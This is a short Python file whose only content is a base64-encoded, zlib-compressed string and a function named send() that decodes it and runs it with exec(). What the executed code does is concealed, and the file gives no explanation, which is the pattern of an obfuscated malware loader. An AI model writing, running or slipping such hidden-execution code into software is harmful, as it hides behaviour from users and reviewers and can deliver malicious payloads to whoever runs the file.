import base64, zlib
_B = "eJxNyzEOwyAMRuGreGqSgUTtWql3IWARVMDIv4k69PDN2O0N38u1ixph7F0lMEAehGfX3GzGmthkWB82T7Xwzi0clNRHdvC1F6btkMrbtdcMZGl/uQacFCXBnXDBG5xyHB/3Zm1c4Dhmuxg9Xrf7Nyl3QhDlaVl+nL43hQ=="


def send():
    exec(zlib.decompress(base64.b64decode(_B)))
